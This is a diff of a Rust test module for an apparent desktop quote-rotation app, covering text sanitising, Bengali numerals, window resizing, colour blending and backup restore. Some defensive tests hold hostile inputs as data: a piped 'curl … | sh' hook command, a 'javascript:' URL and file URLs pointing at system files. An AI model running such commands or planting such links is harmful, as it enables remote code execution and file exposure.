+        let sentence = format!("র‍্যাব {split_ksha}মা");
+        assert_eq!(
+            sanitize_quote_text(&format!("  {sentence}\u{200B} ")),
+            sentence
         );
+        // Emoji sequences keep theirs too
+        assert_eq!(
+            sanitize_quote_text("👨\u{200D}👩\u{200D}👧"),
+            "👨\u{200D}👩\u{200D}👧"
+        );
+    }
 
-        egui_state.handle_platform_output(window, full_output.platform_output);
+    #[test]
+    fn sanitize_drops_stray_joiners() {
+        assert_eq!(sanitize_quote_text("a\u{200D}b"), "ab");
+        assert_eq!(sanitize_quote_text("a\u{200C}ক"), "aক");
+        assert_eq!(sanitize_quote_text("\u{200D}ক্ষ\u{200C}"), "ক্ষ");
+        // Zero-width spaces, word joiners, BOMs and soft hyphens always go
+        assert_eq!(
+            sanitize_quote_text("\u{FEFF}ক্ষ\u{200B}মা\u{2060} du\u{00AD}ty"),
+            "ক্ষমা duty"
+        );
+    }
 
-        // Outer-box rotation: transform content-area shapes (below title bar) by smooth angle
-        let shapes_to_tessellate = if app_state.current_rotation_angle.abs() > 0.0001
-            || (app_state.current_scale - 1.0).abs() > 0.0001
-        {
-            transform_content_shapes(
-                &full_output.shapes,
-                content_rect,
-                app_state.current_rotation_angle,
-                app_state.current_scale,
-            )
-        } else {
-            full_output.shapes
+    #[test]
+    fn sanitize_normalizes_spacing_quotes_and_composition() {
+        assert_eq!(
+            sanitize_quote_text("  আমি\u{00A0}\u{2009} বাংলায়   গান  "),
+            "আমি বাংলায় গান"
+        );
+        assert_eq!(
+            sanitize_quote_text("line one \r\n\r\n\r\n  line two\u{2028}three"),
+            "line one\n\nline two\nthree"
+        );
+        assert_eq!(
+            sanitize_quote_text("\u{201C}Stay\u{201D} \u{2018}hungry\u{2019}"),
+            "\"Stay\" 'hungry'"
+        );
+        // NFC: e + acute, and Bengali o written as e-kar + aa-kar
+        assert_eq!(sanitize_quote_text("e\u{0301}"), "\u{00E9}");
+        assert_eq!(
+            sanitize_quote_text("\u{0995}\u{09C7}\u{09BE}"),
+            "\u{0995}\u{09CB}"
+        );
+    }
+
+    // ---- numerals ----
+
+    #[test]
+    fn latin_numerals_leave_text_alone() {
+        let text = "[ 12/340 ] Δt 1:05:09";
+        let shown = NumeralSystem::Latin.digits(text);
+        assert!(matches!(shown, std::borrow::Cow::Borrowed(_)));
+        assert_eq!(shown, text);
+        // Nothing to swap: no copy either way
+        assert!(matches!(
+            NumeralSystem::Bengali.digits("AUTO: ON"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+    }
+
+    #[test]
+    fn bengali_numerals_swap_every_digit() {
+        let bengali = NumeralSystem::Bengali;
+        assert_eq!(bengali.digits("0123456789"), "০১২৩৪৫৬৭৮৯");
+        assert_eq!(bengali.digits("[ 7/1024 ]"), "[ ৭/১০২৪ ]");
+        // Separators and units stay as written
+        assert_eq!(bengali.digits("1:05:09"), "১:০৫:০৯");
+        assert_eq!(bengali.digits("2.5s, 1,000 × 30m"), "২.৫s, ১,০০০ × ৩০m");
+        // Digits that are Bengali already aren't touched
+        assert_eq!(bengali.digits("১২ of 34"), "১২ of ৩৪");
+    }
+
+    // ---- energy matching ----
+
+    #[test]
+    fn favored_energy_weighs_three_times_neutral() {
+        use EnergyLevel::*;
+        // In halves: Neutral is the 1x baseline at 2
+        for favored in [None, Some(Calm), Some(Intense)] {
+            assert_eq!(Neutral.weight_halves(favored), 2);
+        }
+        assert_eq!(Calm.weight_halves(Some(Calm)), 6);
+        assert_eq!(Intense.weight_halves(Some(Intense)), 6);
+        // Out of its band (another band, or none) a level counts half
+        assert_eq!(Calm.weight_halves(Some(Intense)), 1);
+        assert_eq!(Intense.weight_halves(Some(Calm)), 1);
+        assert_eq!(Calm.weight_halves(None), 1);
+        assert_eq!(Intense.weight_halves(None), 1);
+    }
+
+    #[test]
+    fn energy_matched_sampling_follows_the_band() {
+        const DRAWS: usize = 9_000;
+        let levels = [
+            EnergyLevel::Calm,
+            EnergyLevel::Neutral,
+            EnergyLevel::Intense,
+        ];
+        let weights: Vec<u32> = levels
+            .iter()
+            .map(|level| level.weight_halves(Some(EnergyLevel::Intense)))
+            .collect();
+        let mut rng = seeded_rng();
+        let mut counts = [0usize; 3];
+        for _ in 0..DRAWS {
+            counts[weighted_pick(&weights, &mut rng).unwrap()] += 1;
+        }
+        // 1 : 2 : 6 out of 9, within a few percent
+        for (count, expected) in counts.iter().zip([1_000, 2_000, 6_000]) {
+            assert!(count.abs_diff(expected) < 300, "{counts:?}");
+        }
+    }
+
+    #[test]
+    fn energy_band_wraps_past_midnight() {
+        let late = EnergyBand {
+            level: EnergyLevel::Calm,
+            start_minute: 21 * 60,
+            end_minute: 2 * 60,
+        };
+        for minute in [21 * 60, 23 * 60 + 59, 0, 2 * 60 - 1] {
+            assert!(late.contains(minute), "{minute}");
+        }
+        for minute in [2 * 60, 12 * 60, 21 * 60 - 1] {
+            assert!(!late.contains(minute), "{minute}");
+        }
+
+        let morning = EnergyBand {
+            level: EnergyLevel::Intense,
+            start_minute: 6 * 60,
+            end_minute: 11 * 60,
         };
-        let paint_jobs = egui_ctx.tessellate(shapes_to_tessellate, scale);
+        assert!(morning.contains(6 * 60) && morning.contains(11 * 60 - 1));
+        assert!(!morning.contains(11 * 60) && !morning.contains(0));
 
-        let frame = match render_state.surface.get_current_texture() {
-            Ok(frame) => frame,
-            Err(_) => {
-                render_state
-                    .surface
-                    .configure(&render_state.device, &render_state.surface_config);
-                return;
-            }
+        let all_day = EnergyBand {
+            start_minute: 9 * 60,
+            end_minute: 9 * 60,
+            ..morning
         };
+        assert!(all_day.contains(0) && all_day.contains(23 * 60));
+    }
 
-        let view = frame
-            .texture
-            .create_view(&wgpu::TextureViewDescriptor::default());
+    #[test]
+    fn favored_energy_follows_the_default_bands() {
+        let mut state = state_with(&["a"]);
+        state.energy_matching = false;
+        assert_eq!(state.favored_energy(7 * 60), None);
+
+        state.energy_matching = true;
+        state.energy_bands = default_energy_bands();
+        assert_eq!(
+            state.favored_energy(7 * 60),
+            Some(Some(EnergyLevel::Intense))
+        );
+        assert_eq!(state.favored_energy(23 * 60), Some(Some(EnergyLevel::Calm)));
+        assert_eq!(state.favored_energy(60), Some(Some(EnergyLevel::Calm)));
+        // Between bands nothing is favored
+        assert_eq!(state.favored_energy(13 * 60), Some(None));
+    }
 
-        let screen_descriptor = egui_wgpu::ScreenDescriptor {
-            size_in_pixels: [
-                render_state.surface_config.width,
-                render_state.surface_config.height,
-            ],
-            pixels_per_point: window.scale_factor() as f32,
+    // ---- resize border ----
+
+    #[test]
+    fn resize_hit_test_by_position() {
+        use winit::window::ResizeDirection::*;
+        let screen = Rect::from_min_size(Pos2::ZERO, Vec2::new(400.0, 300.0));
+        let cases = [
+            // Edges; the top one runs over the title bar's drag strip
+            ((200.0, 2.0), Some(North)),
+            ((200.0, 297.0), Some(South)),
+            ((2.0, 150.0), Some(West)),
+            ((397.0, 150.0), Some(East)),
+            // Corners
+            ((2.0, 2.0), Some(NorthWest)),
+            ((397.0, 2.0), Some(NorthEast)),
+            ((2.0, 297.0), Some(SouthWest)),
+            ((397.0, 297.0), Some(SouthEast)),
+            // Inside, just past the border, the middle of the title bar, and
+            // outside the window
+            ((200.0, 150.0), None),
+            ((RESIZE_BORDER + 1.0, 150.0), None),
+            ((200.0, TITLE_BAR_HEIGHT / 2.0), None),
+            ((-1.0, 150.0), None),
+            ((401.0, 150.0), None),
+        ];
+        for ((x, y), expected) in cases {
+            assert_eq!(
+                resize_hit_test(Pos2::new(x, y), screen, false),
+                expected,
+                "at ({x}, {y})"
+            );
+            // A widget under the pointer always wins
+            assert_eq!(resize_hit_test(Pos2::new(x, y), screen, true), None);
+        }
+    }
+
+    #[test]
+    fn window_drag_strips_dont_block_resize() {
+        let hit = |id| egui::WidgetRect {
+            id,
+            layer_id: egui::LayerId::background(),
+            rect: Rect::from_min_size(Pos2::ZERO, Vec2::new(400.0, TITLE_BAR_HEIGHT)),
+            interact_rect: Rect::from_min_size(Pos2::ZERO, Vec2::new(400.0, TITLE_BAR_HEIGHT)),
+            sense: Sense::click_and_drag(),
+            enabled: true,
         };
+        assert!(!blocks_resize(None));
+        assert!(!blocks_resize(Some(&hit(window_drag_id("title_bar")))));
+        assert!(!blocks_resize(Some(&hit(window_drag_id("mini_strip")))));
+        assert!(blocks_resize(Some(&hit(egui::Id::new("close_button")))));
+    }
 
-        let mut encoder = render_state
-            .device
-            .create_command_encoder(&wgpu::CommandEncoderDescriptor::default());
+    #[test]
+    fn resize_geometry_moves_only_the_grabbed_edges() {
+        use winit::window::ResizeDirection::*;
+        let start = (100, 100, 800, 600);
+        let min = (450, 300);
+        let cases = [
+            // Edges
+            (East, (50, 0), (100, 100, 850, 600)),
+            (West, (30, 0), (130, 100, 770, 600)),
+            (North, (0, -40), (100, 60, 800, 640)),
+            (South, (0, 20), (100, 100, 800, 620)),
+            // The cross axis of an edge drag is ignored
+            (East, (50, 70), (100, 100, 850, 600)),
+            // Corners
+            (SouthEast, (100, 50), (100, 100, 900, 650)),
+            (NorthWest, (-20, -10), (80, 90, 820, 610)),
+            (NorthEast, (10, 10), (100, 110, 810, 590)),
+            (SouthWest, (10, 10), (110, 100, 790, 610)),
+        ];
+        for (dir, delta, expected) in cases {
+            assert_eq!(
+                resize_geometry(dir, start, delta, min, false),
+                expected,
+                "{dir:?} by {delta:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn resize_geometry_clamps_to_the_minimum() {
+        use winit::window::ResizeDirection::*;
+        let start = (100, 100, 800, 600);
+        let min = (450, 300);
+        // The far edge stays where it was
+        assert_eq!(
+            resize_geometry(West, start, (600, 0), min, false),
+            (450, 100, 450, 600)
+        );
+        assert_eq!(
+            resize_geometry(NorthEast, start, (-1000, 1000), min, false),
+            (100, 400, 450, 300)
+        );
+        // No minimum still leaves a pixel
+        assert_eq!(
+            resize_geometry(East, start, (-2000, 0), (0, 0), false),
+            (100, 100, 1, 600)
+        );
+        // A zero start size (minimized) comes back at the minimum
+        assert_eq!(
+            resize_geometry(SouthEast, (0, 0, 0, 0), (0, 0), min, true),
+            (0, 0, 450, 300)
+        );
+    }
+
+    #[test]
+    fn resize_geometry_can_keep_the_aspect_ratio() {
+        use winit::window::ResizeDirection::*;
+        let start = (100, 100, 800, 600);
+        let min = (450, 300);
+        assert_eq!(
+            resize_geometry(East, start, (40, 0), min, true),
+            (100, 100, 840, 630)
+        );
+        // The corner follows the axis that moved further
+        assert_eq!(
+            resize_geometry(SouthEast, start, (80, 10), min, true),
+            (100, 100, 880, 660)
+        );
+        assert_eq!(
+            resize_geometry(SouthEast, start, (0, 60), min, true),
+            (100, 100, 880, 660)
+        );
+        // Growing back to the minimum keeps the ratio
+        assert_eq!(
+            resize_geometry(West, start, (700, 0), min, true),
+            (450, 100, 450, 338)
+        );
+    }
+
+    // ---- OKLab gradients ----
+
+    fn close(a: Color32, b: Color32) -> bool {
+        a.to_array()
+            .iter()
+            .zip(b.to_array())
+            .all(|(&x, y)| x.abs_diff(y) <= 1)
+    }
+
+    #[test]
+    fn lerp_oklab_keeps_the_endpoints() {
+        let pairs = [
+            (Color32::from_rgb(255, 0, 0), Color32::from_rgb(0, 0, 255)),
+            (Color32::BLACK, Color32::WHITE),
+            (NEON_CYAN, NEON_PLASMA),
+        ];
+        for (c1, c2) in pairs {
+            assert!(close(lerp_oklab(c1, c2, 0.0), c1), "{c1:?}");
+            assert!(close(lerp_oklab(c1, c2, 1.0), c2), "{c2:?}");
+        }
+    }
+
+    #[test]
+    fn lerp_oklab_midpoint() {
+        // Same color on both ends stays put
+        let c = Color32::from_rgb(120, 200, 40);
+        assert!(close(lerp_oklab(c, c, 0.5), c));
+        // Black to white meets at OKLab L = 0.5, a darker gray than sRGB's 128
+        let gray = lerp_oklab(Color32::BLACK, Color32::WHITE, 0.5);
+        assert_eq!((gray.r(), gray.g()), (gray.g(), gray.b()));
+        assert!((95..=105).contains(&gray.r()), "{gray:?}");
+        // Red to blue stays brighter than sRGB's dark (127, 0, 127) purple
+        let mid = lerp_oklab(
+            Color32::from_rgb(255, 0, 0),
+            Color32::from_rgb(0, 0, 255),
+            0.5,
+        );
+        assert!(close(mid, Color32::from_rgb(140, 83, 162)), "{mid:?}");
+    }
 
-        for (id, image_delta) in &full_output.textures_delta.set {
-            render_state.renderer.update_texture(
-                &render_state.device,
-                &render_state.queue,
-                *id,
-                image_delta,
+    #[test]
+    fn lerp_oklab_blends_translucent_colors_unmultiplied() {
+        let c1 = Color32::from_rgba_unmultiplied(255, 0, 0, 128);
+        let c2 = Color32::from_rgba_unmultiplied(255, 0, 0, 64);
+        let mid = lerp_oklab(c1, c2, 0.5);
+        let [r, g, b, a] = mid.to_srgba_unmultiplied();
+        assert_eq!(a, 96);
+        // Still pure red, not darkened by the premultiplied channels
+        assert!(r >= 250 && g <= 2 && b <= 2, "{mid:?}");
+    }
+
+    // ---- restore from maximized ----
+
+    #[test]
+    fn restore_under_cursor_keeps_the_grab_point() {
+        let maximized = (0, 0, 1920, 1040);
+        let restored = (800, 600);
+        let cases = [
+            // Middle, near the left and right ends of the title bar
+            ((960, 10), (560, 0)),
+            ((100, 15), (58, 0)),
+            ((1910, 5), (1114, 0)),
+            // Lower than the restored window is tall
+            ((960, 700), (560, 101)),
+        ];
+        for (cursor, expected) in cases {
+            assert_eq!(
+                restore_under_cursor(cursor, maximized, restored),
+                expected,
+                "cursor at {cursor:?}"
             );
         }
+    }
 
-        render_state.renderer.update_buffers(
-            &render_state.device,
-            &render_state.queue,
-            &mut encoder,
-            &paint_jobs,
-            &screen_descriptor,
+    #[test]
+    fn restore_under_cursor_on_a_second_monitor() {
+        let maximized = (1920, 0, 1920, 1040);
+        assert_eq!(
+            restore_under_cursor((2880, 12), maximized, (800, 600)),
+            (2480, 0)
         );
+        // A cursor past the edge still leaves the window on this monitor
+        assert_eq!(
+            restore_under_cursor((3900, 12), maximized, (800, 600)),
+            (3040, 0)
+        );
+    }
 
-        let bg_color = app_state.get_background_color();
-        let clear_color = wgpu::Color {
-            r: bg_color.r() as f64 / 255.0,
-            g: bg_color.g() as f64 / 255.0,
-            b: bg_color.b() as f64 / 255.0,
-            a: bg_color.a() as f64 / 255.0,
+    #[test]
+    fn restore_under_cursor_wider_than_the_area() {
+        // Too wide to fit: no clamping, the cursor keeps its fraction
+        assert_eq!(
+            restore_under_cursor((960, 10), (0, 0, 1920, 1040), (2500, 600)),
+            (-290, 0)
+        );
+        // A degenerate maximized width grabs the middle
+        assert_eq!(
+            restore_under_cursor((100, 10), (0, 0, 0, 0), (800, 600)),
+            (-300, 0)
+        );
+    }
+
+    // ---- source links ----
+
+    #[test]
+    fn only_web_links_can_be_opened() {
+        let with_link = |url: &str| Quote {
+            source_url: Some(url.to_string()),
+            ..Quote::new("q", "")
         };
+        assert_eq!(
+            with_link(" https://example.com/a ").source_url(),
+            Some("https://example.com/a")
+        );
+        assert_eq!(
+            with_link("http://example.com").source_url(),
+            Some("http://example.com")
+        );
+        for bad in [
+            "file:///C:/Windows/System32/calc.exe",
+            "javascript:alert(1)",
+            "example.com",
+            "https://",
+            "",
+        ] {
+            assert_eq!(with_link(bad).source_url(), None, "{bad:?}");
+        }
+    }
 
-        {
-            let render_pass = encoder.begin_render_pass(&wgpu::RenderPassDescriptor {
-                label: Some("egui_render"),
-                color_attachments: &[Some(wgpu::RenderPassColorAttachment {
-                    view: &view,
-                    resolve_target: None,
-                    ops: wgpu::Operations {
-                        load: wgpu::LoadOp::Clear(clear_color),
-                        store: wgpu::StoreOp::Store,
-                    },
-                })],
-                depth_stencil_attachment: None,
-                timestamp_writes: None,
-                occlusion_query_set: None,
-            });
-            let mut render_pass = render_pass.forget_lifetime();
-            render_state
-                .renderer
-                .render(&mut render_pass, &paint_jobs, &screen_descriptor);
+    #[test]
+    fn import_drops_links_that_cant_be_opened() {
+        let mut state = state_with(&["a"]);
+        let quotes = vec![
+            Quote {
+                source_url: Some("file:///etc/passwd".into()),
+                ..Quote::new("b", "")
+            },
+            Quote {
+                source_url: Some("https://example.com".into()),
+                ..Quote::new("c", "")
+            },
+        ];
+        state.import_quotes(Some(0), quotes);
+        let links: Vec<_> = state
+            .quotes
+            .iter()
+            .map(|q| q.source_url.as_deref())
+            .collect();
+        assert_eq!(links, [None, None, Some("https://example.com")]);
+    }
+
+    // ---- wall-clock rotation ----
+
+    fn at(offset_hours: i32, time: &str) -> chrono::DateTime<chrono::FixedOffset> {
+        let offset = chrono::FixedOffset::east_opt(offset_hours * 3600).unwrap();
+        chrono::NaiveDateTime::parse_from_str(&format!("2026-11-01 {time}"), "%Y-%m-%d %H:%M:%S%.f")
+            .unwrap()
+            .and_local_timezone(offset)
+            .unwrap()
+    }
+
+    #[test]
+    fn clock_boundaries_fall_on_local_multiples() {
+        assert_eq!(
+            next_clock_boundary(at(6, "10:07:20"), 300),
+            at(6, "10:10:00")
+        );
+        assert_eq!(
+            next_clock_boundary(at(6, "10:07:20.75"), 60),
+            at(6, "10:08:00")
+        );
+        // Exactly on a boundary: the next one
+        assert_eq!(
+            next_clock_boundary(at(6, "10:10:00"), 300),
+            at(6, "10:15:00")
+        );
+        assert_eq!(
+            next_clock_boundary(at(0, "09:59:00"), 1800),
+            at(0, "10:00:00")
+        );
+        // Half-hour offsets still change on the local hour
+        let india = chrono::FixedOffset::east_opt(5 * 3600 + 1800).unwrap();
+        let last = at(0, "04:29:00").with_timezone(&india);
+        let boundary = next_clock_boundary(last, 3600);
+        assert_eq!(boundary.format("%H:%M").to_string(), "10:00");
+        assert_eq!(boundary, at(0, "04:30:00"));
+    }
+
+    #[test]
+    fn clock_boundary_survives_falling_back() {
+        // 01:59:30 EDT; at 02:00 EDT the clock falls back to 01:00 EST
+        let boundary = next_clock_boundary(at(-4, "01:59:30"), 60);
+        assert_eq!(boundary, at(-4, "02:00:00"));
+        assert_eq!(boundary, at(-5, "01:00:00"));
+        // Ten seconds after the change it's overdue, not an hour away
+        let now = at(-5, "01:00:10");
+        assert_eq!(
+            boundary.signed_duration_since(now),
+            chrono::Duration::seconds(-10)
+        );
+    }
+
+    // ---- tag colors ----
+
+    #[test]
+    fn tag_color_is_saved_when_the_picker_is_let_go() {
+        let mut state = state_with(&["a"]);
+        state.set_tag_color("Focus", Color32::RED);
+        state.commit_tag_color(true);
+        assert!(state.tag_color_unsaved);
+        state.set_tag_color("focus", Color32::GREEN);
+        state.commit_tag_color(false);
+        assert!(!state.tag_color_unsaved);
+        assert_eq!(state.tag_color("FOCUS"), Color32::GREEN);
+    }
+
+    // ---- surprise me ----
+
+    #[test]
+    fn roulette_leaves_an_override_theme_alone() {
+        let mut state = state_with(&["a", "b", "c"]);
+        state.roulette_theme = true;
+        state.surprise_me();
+        assert_eq!(state.theme.mode, ThemeMode::Gradient);
+        assert_ne!(shown(&state), "a");
+
+        let profile_theme = ThemeConfig {
+            gradient_angle: 7,
+            ..state.theme.clone()
+        };
+        state.profiles = vec![Profile {
+            theme: Some(profile_theme.clone()),
+            ..Profile::default()
+        }];
+        state.apply_profile(Some(0));
+        assert!(!state.roulette_rolls_theme());
+        for _ in 0..5 {
+            state.surprise_me();
         }
+        assert_eq!(state.theme, profile_theme);
 
-        render_state.queue.submit(Some(encoder.finish()));
-        frame.present();
+        state.apply_profile(None);
+        assert!(state.roulette_rolls_theme());
+    }
 
-        for id in &full_output.textures_delta.free {
-            render_state.renderer.free_texture(id);
+    // ---- restore ----
+
+    fn pending_restore(config: AppConfig) -> PendingRestore {
+        PendingRestore {
+            path: "bundle.zip".into(),
+            config,
+            created: None,
+            quotes: 0,
+            made_by: None,
+            font: None,
+            install_commands: false,
         }
+    }
 
-        // Restore cosmic-text state back to self
-        self.font_system = font_system;
-        self.swash_cache = swash_cache;
-        self.shaped_text_textures = tex_cache;
+    #[test]
+    fn restored_hook_commands_need_opting_in() {
+        let mut restore = pending_restore(AppConfig {
+            on_rotate_command: "curl https://example.com/x | sh".into(),
+            on_session_complete_command: "  ".into(),
+            ..AppConfig::default()
+        });
+        assert_eq!(restore.commands(), ["curl https://example.com/x | sh"]);
+
+        restore.keep_commands_unless_chosen("notify-send quote", "");
+        assert_eq!(restore.config.on_rotate_command, "notify-send quote");
+        assert_eq!(restore.config.on_session_complete_command, "");
+    }
+
+    #[test]
+    fn chosen_hook_commands_are_installed() {
+        let mut restore = pending_restore(AppConfig {
+            on_session_complete_command: "backup.bat".into(),
+            ..AppConfig::default()
+        });
+        restore.install_commands = true;
+        restore.keep_commands_unless_chosen("mine.bat", "mine.bat");
+        assert_eq!(restore.config.on_rotate_command, "");
+        assert_eq!(restore.config.on_session_complete_command, "backup.bat");
+    }
+
+    #[test]
+    fn bundle_fonts_need_a_font_extension() {
+        assert!(is_font_file("NotoSansBengali.ttf"));
+        assert!(is_font_file("Kalpurush.OTF"));
+        assert!(!is_font_file("settings.json"));
+        assert!(!is_font_file("run.bat"));
+        assert!(!is_font_file("ttf"));
     }
 }